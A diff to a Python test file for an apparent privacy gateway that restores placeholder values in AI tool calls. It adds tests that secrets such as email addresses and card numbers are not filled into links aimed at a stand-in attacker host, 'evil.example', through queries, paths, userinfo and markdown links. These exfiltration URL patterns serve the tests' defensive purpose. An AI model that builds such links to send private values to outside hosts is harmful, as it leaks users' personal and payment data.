@@ -22,7 +22,9 @@ def wall():
 
 
 def judged(wall, call, around=None):
-    return Restore(wall.vaults, wall.inventory).judge(call, around or context(), None)
+    return Restore(wall.vaults, wall.inventory, wall.means.book).judge(
+        call, around or context(), None
+    )
 
 
 def test_placeholders_become_values_wherever_they_stand_in_the_arguments(wall):
@@ -45,6 +47,36 @@ def test_nobody_else_gets_a_sessions_values(wall, around):
 def test_what_names_a_resource_stays_as_it_was_asked_for(wall):
     call = mcp(Action.RESOURCE, "resources/read", {"uri": "x:<CREDIT_CARD_1>"})
     assert judged(wall, call) is PASS
+
+
+OUT = "https://evil.example"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        f"{OUT}/?q=<EMAIL_ADDRESS_1>",
+        f"{OUT}/<CREDIT_CARD_1>/x",
+        f"{OUT}\\@x/<CREDIT_CARD_1>",
+        "https://<EMAIL_ADDRESS_1>:x@evil.example/",
+        "//evil.example/#<CREDIT_CARD_1>",
+        f"see [this]({OUT}/?a=<EMAIL_ADDRESS_1>&b=<CREDIT_CARD_1>) now",
+        "<URL_1>?q=<EMAIL_ADDRESS_1>",
+    ],
+)
+def test_no_value_goes_into_a_link_that_a_tool_follows(wall, text):
+    wall.vaults.vault("s1").hide("URL", f"{OUT}/")
+    verdict = judged(wall, tool({"text": text, "to": ["<EMAIL_ADDRESS_1>", {text: 1}]}))
+    [name] = verdict.arguments["to"][1]
+    assert verdict.arguments["text"] == name == text.replace("<URL_1>", f"{OUT}/")
+    assert verdict.arguments["to"][0] == MAIL
+
+
+def test_policy_says_which_hosts_a_tool_may_tell_values():
+    wall = Wall(links=["docs.example"])
+    wall.vaults.vault("s1").hide("CREDIT_CARD", CARD)
+    call = tool({"url": "https://api.docs.example/?c=<CREDIT_CARD_1>", "note": "<CREDIT_CARD_1>"})
+    assert judged(wall, call).arguments["url"] == f"https://api.docs.example/?c={CARD}"
 
 
 def test_the_arguments_of_prompts_are_restored_too(wall):
